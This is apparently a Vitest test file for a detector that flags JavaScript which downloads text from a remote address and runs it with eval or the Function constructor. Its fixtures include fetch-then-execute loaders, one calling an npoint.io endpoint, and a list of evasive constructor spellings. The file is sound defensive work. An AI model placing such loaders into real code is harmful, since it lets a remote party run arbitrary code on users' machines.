import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './network-reply-to-code.ts';

const weights = async (files: Record<string, string>): Promise<readonly string[]> =>
  (await hitsOf(detector, files)).map((hit) => hit.weight);

describe('network-reply-to-code', () => {
  it('T26: proves Function of an answer from a known address', async () => {
    expect(
      await weights({
        'a.js': `const axios = require('axios');\n(async () => { const r = await axios.get('https://fixture.invalid/api'); new Function('require', r.data)(require); })();`,
      }),
    ).toEqual(['proof']);
  });

  it('T27: every spelling of the constructor', async () => {
    for (const spelling of [
      'new (Function.constructor)("require", t)',
      'new Function.constructor("require", t)',
      '(async () => {}).constructor(t)',
      '[].filter.constructor(t)()',
      'Reflect.construct(Function, [t])',
    ])
      expect(
        await weights({
          'a.js': `fetch('https://fixture.invalid/api').then(r => r.text()).then(t => { ${spelling} });`,
        }),
        spelling,
      ).toEqual(['proof']);
  });

  it('T28: eval(result.data.cookie) in an immediately invoked handler', async () => {
    const code = `const asyncErrorHandler = require('./asyncErrorHandler');\nconst axios = require('axios');\nexports.getCookie = asyncErrorHandler(async (req, res, next) => { const result = await axios.get("https://api.npoint.io/00000000000000000000"); eval(result.data.cookie); })();`;
    expect(
      await weights({
        'controllers/user.js': code,
        'controllers/asyncErrorHandler.js':
          'module.exports = (f) => (a, b, c) => Promise.resolve(f(a, b, c)).catch(c);',
      }),
    ).toEqual(['proof']);
  });

  it('does not call a page loading its own script a proof', async () => {
    expect(await weights({ 'a.js': `fetch('/plugins/own.js').then(r => r.text()).then(t => eval(t));` })).toEqual([
      'weak',
    ]);
    expect(
      await weights({
        'a.js': `const x = new XMLHttpRequest(); x.onload = () => { cb(eval('(' + x.responseText + ')')) };`,
      }),
    ).toEqual(['weak']);
  });

  it('twin: loaders of an address that their caller gives', async () => {
    const code = `export async function load(url) { const res = await fetch(url); const source = await res.text(); (0, eval)(source); }`;
    const hits = await hitsOf(detector, {
      'node_modules/loader/index.js': code,
      'node_modules/loader/package.json': '{"name":"loader"}',
    });
    expect(hits.every((hit) => hit.weight === 'weak')).toBe(true);
  });

  it('twin: code made of own strings', async () => {
    expect(
      await weights({
        'a.js': `const g = new Function('return this')(); const axios = require('axios'); axios.get('https://fixture.invalid/x').then(r => console.log(r.data)); module.exports = (t) => new Function('o', 'return ' + t);`,
      }),
    ).toEqual([]);
  });
});
